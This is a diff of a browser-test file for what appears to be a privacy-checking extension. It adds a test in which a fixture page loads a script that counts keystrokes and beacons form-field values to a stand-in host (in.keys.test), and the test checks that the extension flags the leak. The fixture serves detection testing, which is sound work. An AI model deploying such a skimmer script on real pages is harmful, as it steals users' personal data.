@@ -1,8 +1,9 @@
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
-import { look } from "../../cli/look.ts";
+import { look, stateOf } from "../../cli/look.ts";
+import { askWorker } from "../../cli/session.ts";
 import { browsers, openStage, type Stage } from "./sessions.ts";
 
-const options = { fill: "alex", submit: true, wait: 400, screenshot: null } as const;
+const options = { fill: "alex", submit: true, wait: 1200, screenshot: null } as const;
 const email = `<label>E-mail <input name="mail" type="email"></label><button>Send</button>`;
 
 describe.each(browsers)("a form that is sent, in %s", (browser) => {
@@ -60,5 +61,42 @@ describe.each(browsers)("a form that is sent, in %s", (browser) => {
       `<form action="/thanks" method="post">${email}</form>`,
     );
     expect(own).toEqual([]);
+  });
+
+  test("the extension itself types a made-up person, key by key, and what becomes of it is seen", async () => {
+    stage.sites.put(
+      "try.example/",
+      `<!doctype html><title>Try</title><form>${email}<label>Full name <input name="n" autocomplete="name"></label>
+      <label>Country <select autocomplete="country"><option>?<option>France<option>United Kingdom</select></label>
+      <label>Date of birth <input type="date" autocomplete="bday"></label></form>
+      <script src="http://cdn.keys.test/k.js"></script>`,
+    );
+    stage.sites.put("cdn.keys.test/k.js", {
+      body: `let keys = 0; addEventListener("keydown", () => { keys += 1; });
+        addEventListener("change", ({ target }) => new Image().src = "http://in.keys.test/p.gif?" + keys + "&v=" + target.value);`,
+      type: "text/javascript",
+    });
+    const page = await stage.session.open("http://try.example/", 20_000);
+    const report = async () => (await stateOf(stage.session, page.tab)).report;
+    await expect.poll(async () => (await report())?.asked.length, { timeout: 5000 }).toBe(4);
+    const fill = { type: "fill-in", data: { tab: page.tab, person: "amina" } };
+    expect(await stage.session.desk.evaluate(askWorker, fill)).toEqual({ fields: 4 });
+    const values = () =>
+      page.evaluate(
+        () =>
+          Array.from(
+            document.querySelectorAll("input, select"),
+            (field) => (field as HTMLInputElement).value,
+          ),
+        null,
+      );
+    await expect
+      .poll(values, { timeout: 8000 })
+      .toEqual(["amina.nowak@mail.example", "Amina Nowak", "United Kingdom", "1957-03-23"]);
+    await expect
+      .poll(async () => (await report())?.sent.map(({ kind }) => kind), { timeout: 5000 })
+      .toEqual(expect.arrayContaining(["email-address", "person-name"]));
+    expect((await report())?.verdict.level).toBe(3);
+    await page.close();
   });
 });
